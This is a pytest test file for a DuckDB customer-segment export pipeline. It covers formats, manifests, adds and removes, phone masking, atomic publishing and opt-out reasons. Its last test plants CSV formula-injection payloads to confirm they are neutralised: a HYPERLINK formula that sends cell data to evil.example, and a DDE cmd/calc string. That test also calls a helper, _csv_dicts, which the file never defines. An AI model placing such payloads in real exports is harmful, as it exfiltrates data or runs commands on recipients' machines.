"""File exports (SPEC §5/§6): formats, manifest, adds/removes, phones, atomic appearance, LATEST last."""

from __future__ import annotations

import datetime as dt
import hashlib
import json
import os
import re
import shutil
import time

import duckdb
import pyarrow.parquet as pq
import pytest

from orchestration.segments import ExportError, ExportOptions, build_membership, export_segment, parse_definitions
from orchestration.segments.exports import complete_exports, export_freshness, latest_export_id, new_export_id
from orchestration.warehouse import connect
from tests.segments_helpers import DATA_END, customer, phone_sha, write_dim_customers

ALL_FORMATS = ExportOptions(formats=("csv", "parquet", "jsonl"))
BUYERS = {"buyers": {"version": 3, "purpose": "anyone who paid", "campaign": "thanks", "rule": [{"column": "paid_orders", "op": "gte", "value": 1}]}}


def _defs(tables=BUYERS):
    return parse_definitions([("defaults", {}), ("privdom.toml", tables)])


def _buyer(key, **over):
    return customer(key, paid_orders=1, last_paid_at=DATA_END - dt.timedelta(days=3), net_revenue=99.5, rfm_segment="New", **over)


@pytest.fixture
def world(tmp_path):
    warehouse = tmp_path / "warehouse.duckdb"
    exports = tmp_path / "exports"
    write_dim_customers(warehouse, [
        _buyer("C1", wecom_external_userid="wmA", wecom_staff_userid="staff1", acquisition_campaign="双十一",
               reachable_channels="official_account,wecom"),
        _buyer("C2", phone_sha256=phone_sha("13912345678"), phone_masked="139****5678", openid=None, openid_channel=None),
        _buyer("C3"),
        _buyer("C4", opted_out=True, is_reachable=False),
        customer("C5"),  # no purchase
    ])
    return warehouse, exports


def _membership(warehouse, defs, when=None):
    con = connect(warehouse)
    try:
        build_membership(con, defs, when or dt.datetime(2024, 7, 1, tzinfo=dt.UTC))
    finally:
        con.close()


def _export(warehouse, exports, definition, options=ALL_FORMATS, now=None):
    con = connect(warehouse)
    try:
        return export_segment(con, exports, definition, options, now=now)
    finally:
        con.close()


def _read(path):
    con = duckdb.connect()
    try:
        if path.suffix == ".parquet":
            return con.execute(f"select * from read_parquet('{path}') order by customer_key").fetchall()
        if path.suffix == ".jsonl":
            return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]
        return con.execute(f"select * from read_csv('{path}', header = true, all_varchar = true) order by customer_key").fetchall()
    finally:
        con.close()


def test_an_export_writes_every_format_adds_removes_and_a_manifest(world):
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    result = _export(warehouse, exports, d)
    folder = exports / "buyers" / result.export_id
    assert latest_export_id(exports / "buyers") == result.export_id
    names = {p.name for p in folder.iterdir()}
    assert names == {"buyers.csv", "buyers.parquet", "buyers.jsonl", "adds.csv", "adds.parquet", "adds.jsonl",
                     "removes.csv", "removes.parquet", "removes.jsonl", "manifest.json"}
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["segment"] == "buyers" and manifest["definition_version"] == 3
    assert manifest["row_count"] == 3 and manifest["adds"] == 3 and manifest["removes"] == 0
    assert manifest["previous_export_id"] is None
    assert dt.datetime.fromisoformat(manifest["data_end_at"]) == DATA_END
    assert dt.datetime.fromisoformat(manifest["computed_at"]) == dt.datetime(2024, 7, 1, tzinfo=dt.UTC)
    for f in manifest["files"]:
        assert hashlib.sha256((folder / f["name"]).read_bytes()).hexdigest() == f["sha256"], f["name"]
        assert (folder / f["name"]).stat().st_size == f["bytes"]
    # The same rows in every format: C4 (opted out) and C5 (no purchase) absent.
    csv_rows, parquet_rows, json_rows = _read(folder / "buyers.csv"), _read(folder / "buyers.parquet"), _read(folder / "buyers.jsonl")
    assert [r[2] for r in csv_rows] == [r[2] for r in parquet_rows] == [r["customer_key"] for r in json_rows] == ["C1", "C2", "C3"]
    # computed_at and the data end on every row
    table = pq.read_table(folder / "buyers.parquet")
    assert set(table.column("data_end_at").to_pylist()) == {DATA_END}
    assert all(r["computed_at"] and r["data_end_at"] for r in json_rows)
    assert json_rows[0]["acquisition_campaign"] == "双十一"
    # JSON has no timestamp type: instants are RFC 3339 text in Shanghai time, which strict parsers take
    shanghai = dt.timezone(dt.timedelta(hours=8))
    assert json_rows[0]["computed_at"] == "2024-07-01T08:00:00+08:00"
    assert json_rows[0]["data_end_at"] == DATA_END.astimezone(shanghai).isoformat()
    rfc3339 = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?[+-]\d\d:\d\d$")
    instants = [v for r in json_rows for k, v in r.items() if k.endswith("_at") and v is not None]
    assert instants and all(rfc3339.match(v) for v in instants), instants


def test_jsonl_instants_keep_a_fraction_of_a_second_and_any_offset():
    from orchestration.segments.exports import _rfc3339_instant_sql

    con = duckdb.connect()
    con.execute("set TimeZone = 'Asia/Shanghai'")
    row = con.execute(
        f"select {_rfc3339_instant_sql('a')}, {_rfc3339_instant_sql('b')} from (select "
        "timestamptz '2024-01-05 08:16:48.25Z' as a, timestamptz '2024-12-31 16:00:00Z' as b)"
    ).fetchone()
    assert row == ("2024-01-05T16:16:48.250000+08:00", "2025-01-01T00:00:00+08:00")
    con.execute("set TimeZone = 'Asia/Kolkata'")
    (kolkata,) = con.execute(f"select {_rfc3339_instant_sql('a')} from (select timestamptz '2024-01-05 08:16:48Z' as a)").fetchone()
    assert kolkata == "2024-01-05T13:46:48+05:30"


def test_csv_is_utf8_with_bom_by_default_and_without_when_asked(world):
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d, ExportOptions(formats=("csv",)))
    raw = (first.path / "buyers.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and "双十一".encode() in raw
    second = _export(warehouse, exports, d, ExportOptions(formats=("csv",), csv_bom=False))
    assert (second.path / "buyers.csv").read_bytes().startswith(b"segment,")


def test_phones_leave_only_as_sha256_of_86_and_11_digits(world):
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    result = _export(warehouse, exports, d)
    rows = {r["customer_key"]: r for r in _read(result.path / "buyers.jsonl")}
    assert rows["C2"]["phone_sha256"] == hashlib.sha256(b"8613912345678").hexdigest()
    assert rows["C2"]["contact_channel"] == "phone_sha256" and rows["C2"]["contact_handle"] == rows["C2"]["phone_sha256"]
    assert rows["C1"]["contact_channel"] == "wecom" and rows["C1"]["contact_handle"] == "wmA"
    for f in result.path.iterdir():
        text = f.read_bytes().decode("utf-8", errors="replace")
        assert "13912345678" not in text and "139****5678" not in text, f.name


def _keys(path):
    """The customer keys of an export file, sorted (CSV rows come as lists: the key is the third column)."""
    return sorted(r["customer_key"] if isinstance(r, dict) else r[2] for r in _read(path))


def test_adds_and_removes_against_the_previous_export_and_a_merge_shows_as_remove_plus_add(world):
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    con = connect(warehouse)
    # C3 refunds (no longer a buyer), C5 buys, C1 is merged into C9 (the surviving key).
    con.execute("update marts.dim_customers set paid_orders = 0 where customer_key = 'C3'")
    con.execute("update marts.dim_customers set paid_orders = 2 where customer_key = 'C5'")
    con.execute("update marts.dim_customers set customer_key = 'C9' where customer_key = 'C1'")
    con.close()
    _membership(warehouse, [d])
    second = _export(warehouse, exports, d)
    assert second.previous_export_id == first.export_id and second.export_id > first.export_id
    for fmt in ("csv", "parquet", "jsonl"):
        adds, removes = _keys(second.path / f"adds.{fmt}"), _keys(second.path / f"removes.{fmt}")
        assert adds == ["C5", "C9"], fmt
        assert removes == ["C1", "C3"], fmt
    # why each left: C3 is still a reachable customer the rule no longer selects; C1's key is gone from
    # dim_customers and this warehouse has no key registry to say it was merged
    reasons = {r["customer_key"]: r["reason"] for r in _read(second.path / "removes.jsonl")}
    assert reasons == {"C1": "no_longer_a_customer", "C3": "left_segment"}
    removed = {r["customer_key"]: r for r in _read(second.path / "removes.jsonl")}
    assert removed["C1"]["contact_handle"] == "wmA"  # named as the previous export named it
    assert (second.rows, second.adds, second.removes) == (3, 2, 2)
    # nothing changed: the third export adds and removes nothing
    third = _export(warehouse, exports, d)
    assert (third.adds, third.removes) == (0, 0)


def test_an_export_after_its_key_registry_was_replaced_is_withheld(world):
    """Runbook review: a warehouse deleted and rebuilt from landing issued its customer keys again, to other
    people (186 of 520), and the next exports' adds and removes were computed key by key against the old export.
    Every manifest names the key registry; an export against a previous one of another registry is withheld,
    saying what to do. The same registry, or a previous export that named none (older privdom), goes on."""
    from orchestration.identity.keys import KEY_REGISTRY, ensure_state_tables, key_registry_id

    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    unnamed = _export(warehouse, exports, d)  # no identity step yet: no registry
    assert unnamed.manifest["key_registry"] is None
    con = connect(warehouse)
    ensure_state_tables(con)
    ensure_state_tables(con)  # made once: the id stays
    first_registry = key_registry_id(con)
    assert con.execute(f"select count(*) from {KEY_REGISTRY}").fetchone()[0] == 1
    con.execute("update marts.dim_customers set paid_orders = 2 where customer_key = 'C5'")
    con.close()
    _membership(warehouse, [d])
    named = _export(warehouse, exports, d)
    assert named.manifest["key_registry"] == first_registry and named.adds == 1
    con = connect(warehouse)  # the warehouse is rebuilt: a new registry
    con.execute(f"drop table {KEY_REGISTRY}")
    ensure_state_tables(con)
    con.execute("update marts.dim_customers set paid_orders = 0 where customer_key = 'C5'")
    con.close()
    _membership(warehouse, [d])
    with pytest.raises(ExportError, match="another key registry") as refused:
        _export(warehouse, exports, d)
    assert "Restore warehouse.duckdb from a backup, or move" in str(refused.value)
    assert latest_export_id(exports / "buyers") == named.export_id  # nothing published
    shutil.move(exports / "buyers", exports.parent / "buyers-before-rebuild")
    anew = _export(warehouse, exports, d)
    assert anew.previous_export_id is None and anew.manifest["key_registry"] not in (None, first_registry)


def test_an_empty_segment_exports_an_empty_file_with_its_dates(world):
    warehouse, exports = world
    (d,) = _defs({"nobody": {"version": 1, "purpose": "p", "rule": [{"column": "paid_orders", "op": "gt", "value": 100}]}})
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    assert first.rows == 0 and first.manifest["data_end_at"]
    second = _export(warehouse, exports, d)
    assert (second.adds, second.removes) == (0, 0)


def test_export_ids_sort_by_time_even_within_one_second():
    now = dt.datetime(2024, 7, 1, 8, 0, 0, tzinfo=dt.UTC)
    first = new_export_id(now, None)
    assert first.startswith("20240701T080000Z-") and len(first) == 23
    second = new_export_id(now, first)
    third = new_export_id(now, second)
    assert first < second < third


def test_old_exports_are_pruned_but_latest_kept(world):
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    ids = []
    for day in range(4):  # a new data end each time: an export of unchanged members would be skipped
        con = connect(warehouse)
        con.execute("update segments.segment_members set data_end_at = data_end_at + interval 1 day")
        con.close()
        ids.append(_export(warehouse, exports, d, ExportOptions(formats=("csv",), keep=2)).export_id)
    assert complete_exports(exports / "buyers") == ids[-2:]
    assert latest_export_id(exports / "buyers") == ids[-1]


def test_an_exports_folder_that_leads_outside_is_refused(world, tmp_path):
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    outside = tmp_path / "elsewhere"
    outside.mkdir()
    exports.mkdir()
    os.symlink(outside, exports / "buyers")
    with pytest.raises(ExportError, match="outside the exports directory"):
        _export(warehouse, exports, d)
    assert list(outside.iterdir()) == []


def test_a_suppressed_customer_in_membership_withholds_the_export(world):
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    con = connect(warehouse)
    con.execute("insert into segments.segment_members (segment, segment_version, customer_key, computed_at, data_end_at) select 'buyers', 3, 'C4', now(), data_end_at from marts.dim_customers limit 1")
    con.close()
    with pytest.raises(ExportError, match="opted-out, unreachable or unknown"):
        _export(warehouse, exports, d)
    assert complete_exports(exports / "buyers") == [first.export_id]
    assert latest_export_id(exports / "buyers") == first.export_id
    assert [p.name for p in (exports / "buyers").iterdir() if p.name.startswith(".tmp")] == []


def test_freshness_compares_latest_with_the_warehouse_data_end(world):
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    _export(warehouse, exports, d)
    con = connect(warehouse)
    assert export_freshness(con, exports, "buyers")["fresh"] is True
    con.execute("update marts.dim_customers set data_end_at = data_end_at + interval 1 hour")
    assert export_freshness(con, exports, "buyers")["fresh"] is False
    assert export_freshness(con, exports, "never_exported")["fresh"] is False
    # an export of an empty warehouse (no data end) is fresh while the warehouse has none either, and not after
    con.execute("update marts.dim_customers set data_end_at = null")
    con.execute("update segments.segment_members set data_end_at = null")
    con.execute("update segments.segment_definitions set data_end_at = null")
    con.close()
    _export(warehouse, exports, d)
    con = connect(warehouse)
    assert export_freshness(con, exports, "buyers")["fresh"] is True
    con.execute("update marts.dim_customers set data_end_at = timestamptz '2024-03-01 00:00:00+08'")
    assert export_freshness(con, exports, "buyers")["fresh"] is False
    con.close()


READER = r"""
import hashlib, json, os, sys, time
segment_dir, stop_file = sys.argv[1], sys.argv[2]
problems, seen, verified = [], set(), set()
while not os.path.exists(stop_file):
    if not os.path.isdir(segment_dir):
        continue
    try:
        latest = open(os.path.join(segment_dir, "LATEST"), encoding="utf-8").read().strip()
    except FileNotFoundError:
        latest = None
    if latest and not os.path.exists(os.path.join(segment_dir, latest, "manifest.json")):
        problems.append(f"LATEST names {latest}, which is not complete")
    for entry in os.listdir(segment_dir):
        if entry.startswith(".") or entry == "LATEST" or entry in verified:
            continue
        seen.add(entry)
        folder = os.path.join(segment_dir, entry)
        try:
            manifest = json.load(open(os.path.join(folder, "manifest.json"), encoding="utf-8"))
        except FileNotFoundError:
            problems.append(f"{entry} visible without its manifest")
            continue
        for f in manifest["files"]:
            path = os.path.join(folder, f["name"])
            if not os.path.exists(path) or hashlib.sha256(open(path, "rb").read()).hexdigest() != f["sha256"]:
                problems.append(f"{entry}/{f['name']} incomplete while visible")
        verified.add(entry)
print(json.dumps({"problems": problems[:10], "seen": sorted(seen)}))
"""


def test_a_polling_reader_never_sees_a_partial_export_or_a_latest_ahead_of_its_files(tmp_path):
    """Another process lists the exports folder as fast as it can while exports are written: every export
    folder it can see is complete (manifest present, every file with its sha256), and LATEST always names one."""
    import subprocess
    import sys

    import pyarrow as pa

    from tests.segments_helpers import COLUMN_ORDER, DIM_DDL

    warehouse = tmp_path / "warehouse.duckdb"
    exports = tmp_path / "exports"
    rows = [_buyer(f"C{i:06d}", acquisition_campaign="campaign " * 20) for i in range(8_000)]
    con = connect(warehouse)
    con.execute(DIM_DDL)
    con.register("rows_in", pa.table({c: [r[c] for r in rows] for c in COLUMN_ORDER if c != "net_revenue"}))
    cols = ", ".join(c if c != "net_revenue" else "cast(99.5 as decimal(18, 2))" for c in COLUMN_ORDER)
    con.execute(f"insert into marts.dim_customers select {cols} from rows_in")
    con.close()
    (d,) = _defs()
    _membership(warehouse, [d])

    stop_file = tmp_path / "stop"
    reader = subprocess.Popen([sys.executable, "-c", READER, str(exports / "buyers"), str(stop_file)], stdout=subprocess.PIPE, text=True)
    try:
        time.sleep(0.5)
        written = [_export(warehouse, exports, d).export_id for _ in range(4)]
    finally:
        stop_file.write_text("stop")
        out, _ = reader.communicate(timeout=60)
    report = json.loads(out)
    assert not report["problems"], report["problems"]
    assert report["seen"], "the reader saw no export at all"
    assert set(report["seen"]) <= set(written)
    assert latest_export_id(exports / "buyers") == written[-1]


def test_an_export_of_unchanged_members_is_not_written_again(world):
    """A rerun on the same data (or the run after one killed mid-export) keeps LATEST instead of publishing a
    copy with empty adds and removes; any changed value of a member, not only a new key, exports again."""
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    _membership(warehouse, [d], when=dt.datetime(2024, 7, 2, tzinfo=dt.UTC))  # recomputed later, same members
    again = _export(warehouse, exports, d)
    assert again.unchanged and again.export_id == first.export_id and (again.adds, again.removes) == (0, 0)
    assert complete_exports(exports / "buyers") == [first.export_id]
    assert again.manifest["members_digest"] == first.manifest["members_digest"]

    con = connect(warehouse)
    con.execute("update marts.dim_customers set wecom_external_userid = 'wmB' where customer_key = 'C1'")
    con.close()
    _membership(warehouse, [d])
    changed = _export(warehouse, exports, d)
    assert not changed.unchanged and changed.previous_export_id == first.export_id
    assert (changed.adds, changed.removes) == (1, 0)  # same keys, but C1's contact handle is new: an add (upsert)
    rows = {r["customer_key"]: r for r in _read(changed.path / "buyers.jsonl")}
    assert rows["C1"]["contact_handle"] == "wmB"


def test_what_a_killed_export_left_behind_is_removed_by_the_next(world):
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    segment_dir = exports / "buyers"
    (segment_dir / ".tmp-20990101T000000Z-aaaaaa").mkdir()
    (segment_dir / ".tmp-20990101T000000Z-aaaaaa" / "buyers.csv").write_text("half a file", encoding="utf-8")
    (segment_dir / ".trash-20000101T000000Z-bbbbbb").mkdir()
    (segment_dir / ".LATEST.tmp").write_text("nothing\n", encoding="utf-8")
    # renamed into place, killed before LATEST named it: never published
    unpublished = "20990101T000000Z-cccccc"
    shutil.copytree(first.path, segment_dir / unpublished)
    con = connect(warehouse)
    con.execute("update marts.dim_customers set paid_orders = 2 where customer_key = 'C5'")
    con.close()
    _membership(warehouse, [d])
    second = _export(warehouse, exports, d)
    assert sorted(p.name for p in segment_dir.iterdir()) == sorted([first.export_id, second.export_id, "LATEST"])
    assert second.previous_export_id == first.export_id and second.adds == 1


def test_a_first_exports_adds_are_the_members_files_byte_for_byte(world):
    """With no previous export every member is an add: the adds files are copies of the members files (not
    written and read back a second time), and the manifest still lists each with its own size and digest."""
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    result = _export(warehouse, exports, d)
    for ext in ("csv", "parquet", "jsonl"):
        assert (result.path / f"adds.{ext}").read_bytes() == (result.path / f"buyers.{ext}").read_bytes(), ext
    files = {f["name"]: f for f in result.manifest["files"]}
    assert files["adds.parquet"]["sha256"] == files["buyers.parquet"]["sha256"]
    assert files["adds.csv"]["rows"] == files["buyers.csv"]["rows"] == 3


def test_a_copy_that_differs_from_its_members_file_withholds_the_export(world, monkeypatch):
    import orchestration.segments.exports as exports_module

    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])

    real_copy = shutil.copyfile

    def bad_copy(src, dst):
        real_copy(src, dst)
        with open(dst, "ab") as f:
            f.write(b"\n")

    monkeypatch.setattr(exports_module.shutil, "copyfile", bad_copy)
    with pytest.raises(ExportError, match="adds.csv: differs from buyers.csv"):
        _export(warehouse, exports, d)
    assert latest_export_id(exports / "buyers") is None


@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
def test_a_clear_phone_in_any_single_format_withholds_the_export(world, fmt):
    """The leak check runs in the same scan as the row count, whichever format is the only one written."""
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    con = connect(warehouse)
    con.execute("update segments.segment_members set contact_handle = 'wm 13912345678' where customer_key = 'C1'")
    con.close()
    with pytest.raises(ExportError, match="clear mobile number"):
        _export(warehouse, exports, d, ExportOptions(formats=(fmt,)))
    assert latest_export_id(exports / "buyers") is None


@pytest.mark.parametrize("campaign", ["8613912345678", "+86 139 1234 5678", "qr_a13912345678", "推荐人139-1234-5678",
                                      "会员１３９１２３４５６７８", "139.1234.5678", "139　1234　5678"])
def test_a_phone_in_any_spelling_in_the_campaign_withholds_the_export(world, campaign):
    """The last line behind dim_customers' masking (privdom_mask_phones): the free-text columns are searched
    for every spelling it masks. A long digit run (a batch number) and a hash-like handle are not phones."""
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    con = connect(warehouse)
    con.execute("update segments.segment_members set acquisition_campaign = ? where customer_key = 'C1'", [campaign])
    con.close()
    with pytest.raises(ExportError, match="clear mobile number"):
        _export(warehouse, exports, d, ExportOptions(formats=("csv",)))
    con = connect(warehouse)
    con.execute("update segments.segment_members set acquisition_campaign = 'batch 2024013912345678', "
                "contact_handle = 'oa13912345678b' where customer_key = 'C1'")
    con.close()
    assert _export(warehouse, exports, d, ExportOptions(formats=("csv",))).rows == 3


def test_a_json_lines_file_that_cannot_be_read_back_withholds_the_export(world, monkeypatch):
    """Only JSON Lines written: a line that is not JSON (the count of lines still right) is an ExportError that
    names the file, not a DuckDB error that would stop the other segments' exports."""
    import orchestration.segments.exports as exports_module

    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    real = exports_module._copy

    def copy(con, query, params, path, fmt, csv_bom, *more):
        real(con, query, params, path, fmt, csv_bom, *more)
        if path.name == "buyers.jsonl":
            lines = path.read_text(encoding="utf-8").splitlines()
            path.write_text("\n".join(["{not json", *lines[1:]]) + "\n", encoding="utf-8")

    monkeypatch.setattr(exports_module, "_copy", copy)
    with pytest.raises(ExportError, match="buyers.jsonl: cannot be read back"):
        _export(warehouse, exports, d, ExportOptions(formats=("jsonl",)))
    assert latest_export_id(exports / "buyers") is None


def test_a_merge_of_two_members_adds_the_survivor_and_a_changed_contact_is_an_add(world):
    """SPEC §5: a merge shows as a remove of the old key and an add of the surviving one, also when the survivor
    was a member already (its row changes: it may now be reached on the merged customer's contact). A member
    whose contact changed is in adds too, so a tool applying adds as upserts has the current handle."""
    warehouse, exports = world
    (d,) = _defs()
    con = connect(warehouse)
    con.execute("create schema if not exists identity_state")
    con.execute("create table identity_state.customer_keys (customer_key varchar, status varchar, merged_into varchar)")
    con.execute("insert into identity_state.customer_keys values ('C1', 'active', null), ('C2', 'active', null), ('C3', 'active', null)")
    con.close()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    assert first.rows == 3
    con = connect(warehouse)
    # C3 merges into C2 and C2 keeps its own contact (its phone hash); C1 is now reached on another WeCom contact
    con.execute("delete from marts.dim_customers where customer_key = 'C3'")
    con.execute("update identity_state.customer_keys set status = 'merged', merged_into = 'C2' where customer_key = 'C3'")
    con.execute("update marts.dim_customers set wecom_external_userid = 'wmB' where customer_key = 'C1'")
    con.close()
    _membership(warehouse, [d])
    second = _export(warehouse, exports, d)
    for fmt in ("csv", "parquet", "jsonl"):
        adds, removes = _keys(second.path / f"adds.{fmt}"), _keys(second.path / f"removes.{fmt}")
        assert (adds, removes) == (["C1", "C2"], ["C3"]), fmt
    assert [r["reason"] for r in _read(second.path / "removes.jsonl")] == ["merged"]
    added = {r["customer_key"]: r for r in _read(second.path / "adds.jsonl")}
    assert added["C1"]["contact_handle"] == "wmB"
    assert (second.rows, second.adds, second.removes) == (2, 2, 1)
    # the next export: nothing changed, nothing added (the merge is behind us: C3 is no longer in the previous export)
    con = connect(warehouse)
    con.execute("update marts.dim_customers set net_revenue = 100 where customer_key = 'C1'")  # a new export, same contacts
    con.close()
    _membership(warehouse, [d])
    third = _export(warehouse, exports, d)
    assert third.export_id != second.export_id and (third.adds, third.removes) == (0, 0)


def test_a_definition_edited_without_a_new_version_exports_again_and_a_lowered_keep_prunes(world):
    """A rule, purpose or campaign edited under the same version, selecting the same members, left LATEST's
    manifest describing the old definition (a review): the export is written again with the new one. A lowered
    `keep` pruned nothing until new data came."""
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    edited = {"buyers": {**BUYERS["buyers"], "purpose": "CHANGED purpose",
                         "rule": [{"column": "paid_orders", "op": "between", "value": [1, 99]}]}}
    (e,) = _defs(edited)
    _membership(warehouse, [e])
    again = _export(warehouse, exports, e)
    assert not again.unchanged and (again.adds, again.removes) == (0, 0)
    assert again.manifest["purpose"] == "CHANGED purpose" and "between" in json.dumps(again.manifest["rule"])
    assert _export(warehouse, exports, e).unchanged  # and then it is the export of that definition
    assert complete_exports(exports / "buyers") == [first.export_id, again.export_id]
    kept = _export(warehouse, exports, e, ExportOptions(formats=ALL_FORMATS.formats, keep=1))
    assert kept.unchanged and complete_exports(exports / "buyers") == [again.export_id]


def test_a_rule_edited_alone_under_the_same_version_exports_again(world):
    """The test above edits the purpose and the rule together, so either alone was not checked: a rule changed
    under the same version, purpose and campaign untouched and the same members selected, must not leave LATEST's
    manifest stating the old rule."""
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    (e,) = _defs({"buyers": {**BUYERS["buyers"], "rule": [{"column": "paid_orders", "op": "between", "value": [1, 99]}]}})
    _membership(warehouse, [e])
    again = _export(warehouse, exports, e)
    assert not again.unchanged and again.export_id != first.export_id and (again.adds, again.removes) == (0, 0)
    assert "between" in json.dumps(again.manifest["rule"]) and "between" not in json.dumps(first.manifest["rule"])


def test_the_summary_names_a_segment_no_longer_defined(world):
    from orchestration.segments import summarise_exports

    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    _export(warehouse, exports, d)
    assert [row[0] for row in summarise_exports(exports)] == ["buyers"]
    assert [row[0] for row in summarise_exports(exports, ["other"])] == ["buyers (no longer defined)"]
    assert [row[0] for row in summarise_exports(exports, ["buyers"])] == ["buyers"]
    assert [row[0] for row in summarise_exports(exports, ["other"], ["buyers"])] == ["buyers (switched off)"]


def test_a_remove_says_why_the_customer_left(world):
    """A marketing tool that keeps lists of its own must stop contacting an opted-out customer everywhere (PIPL),
    not only in this segment: each remove says why (exports review). Worked out by hand: C1 opted out (and so is
    no longer reachable: opted_out wins), C2 lost its last live relationship, C3 no longer buys."""
    warehouse, exports = world
    (d,) = _defs()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    assert _keys(first.path / "buyers.jsonl") == ["C1", "C2", "C3"]
    con = connect(warehouse)
    con.execute("update marts.dim_customers set opted_out = true, is_reachable = false, reachable_channels = null "
                "where customer_key = 'C1'")
    con.execute("update marts.dim_customers set is_reachable = false, reachable_channels = null where customer_key = 'C2'")
    con.execute("update marts.dim_customers set paid_orders = 0 where customer_key = 'C3'")
    con.close()
    _membership(warehouse, [d])
    second = _export(warehouse, exports, d)
    reasons = {r["customer_key"]: r["reason"] for r in _read(second.path / "removes.jsonl")}
    assert reasons == {"C1": "opted_out", "C2": "unreachable", "C3": "left_segment"}
    csv_header = (second.path / "removes.csv").read_text(encoding="utf-8-sig").splitlines()[0]
    assert csv_header.split(",")[-1] == "reason"
    manifest = json.loads((second.path / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["columns"]["removes"][-1] == "reason"


def test_a_key_merged_into_a_customer_who_opted_out_leaves_as_opted_out(world):
    """The opt-out arrived on C3's openid and merged C3 into C1 (privacy review): `merged` alone told a tool that
    keeps do-not-contact lists by handle nothing about C3's handle. A merged key takes its survivor's opt-out or
    unreachability; a merge into a customer still reachable stays `merged`. Worked by hand: C3 into C1 (opted
    out) is opted_out, C2 into C5 (reachable, not a buyer) is merged, C1 itself is opted_out."""
    warehouse, exports = world
    (d,) = _defs()
    con = connect(warehouse)
    con.execute("create schema if not exists identity_state")
    con.execute("create table identity_state.customer_keys (customer_key varchar, status varchar, merged_into varchar)")
    con.execute("insert into identity_state.customer_keys values ('C1', 'active', null), ('C2', 'active', null), "
                "('C3', 'active', null), ('C5', 'active', null)")
    con.close()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    assert _keys(first.path / "buyers.jsonl") == ["C1", "C2", "C3"]
    con = connect(warehouse)
    con.execute("delete from marts.dim_customers where customer_key in ('C2', 'C3')")
    con.execute("update identity_state.customer_keys set status = 'merged', merged_into = 'C1' where customer_key = 'C3'")
    con.execute("update identity_state.customer_keys set status = 'merged', merged_into = 'C5' where customer_key = 'C2'")
    con.execute("update marts.dim_customers set opted_out = true, is_reachable = false, reachable_channels = null "
                "where customer_key = 'C1'")
    con.close()
    _membership(warehouse, [d])
    second = _export(warehouse, exports, d)
    reasons = {r["customer_key"]: r["reason"] for r in _read(second.path / "removes.jsonl")}
    assert reasons == {"C1": "opted_out", "C2": "merged", "C3": "opted_out"}


def test_a_campaign_a_spreadsheet_would_run_is_neutralised_in_csv_only(world):
    """The CSV has a BOM so that Excel opens it by double-click, and a campaign is free text from outside: a
    privacy review planted =HYPERLINK(...) and @SUM(...) campaigns and found them written as they came. In CSV a
    campaign starting with =, +, -, @, a tab or a carriage return gets a leading apostrophe (OWASP); Parquet and
    JSON Lines keep it exact, identifiers and money are untouched, and the next export diffs as before."""
    warehouse, exports = world
    (d,) = _defs()
    planted = {"C1": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "C2": "@SUM(1+1)*cmd|' /C calc'!A0",
               "C3": "+86 spring"}
    con = connect(warehouse)
    for key, campaign in planted.items():
        con.execute("update marts.dim_customers set acquisition_campaign = ? where customer_key = ?", [campaign, key])
    con.close()
    _membership(warehouse, [d])
    first = _export(warehouse, exports, d)
    for name in ("buyers.csv", "adds.csv"):
        csv_rows = {r["customer_key"]: r for r in _csv_dicts(first.path / name)}
        assert {k: csv_rows[k]["acquisition_campaign"] for k in planted} == {k: "'" + v for k, v in planted.items()}, name
    assert {r["customer_key"]: r["acquisition_campaign"] for r in _read(first.path / "buyers.jsonl")} == planted
    con = duckdb.connect()
    assert dict(con.execute(f"select customer_key, acquisition_campaign from '{first.path / 'buyers.parquet'}'").fetchall()) == planted
    # nothing changed: the next export adds and removes nothing (identifiers are diffed, not campaigns)
    con = connect(warehouse)
    con.execute("update marts.dim_customers set net_revenue = 100 where customer_key = 'C1'")
    con.close()
    _membership(warehouse, [d])
    second = _export(warehouse, exports, d, ExportOptions(formats=("csv",)))
    assert (second.adds, second.removes) == (0, 0) and second.manifest["csv_formulas"] == "neutralised"
    # a LATEST written before (its manifest without csv_formulas) is written again once, then kept (diff review)
    manifest_path = second.path / "manifest.json"
    old = json.loads(manifest_path.read_text(encoding="utf-8"))
    del old["csv_formulas"]
    manifest_path.write_text(json.dumps(old), encoding="utf-8")
    third = _export(warehouse, exports, d, ExportOptions(formats=("csv",)))
    assert not third.unchanged and third.export_id != second.export_id and (third.adds, third.removes) == (0, 0)
    assert _export(warehouse, exports, d, ExportOptions(formats=("csv",))).unchanged
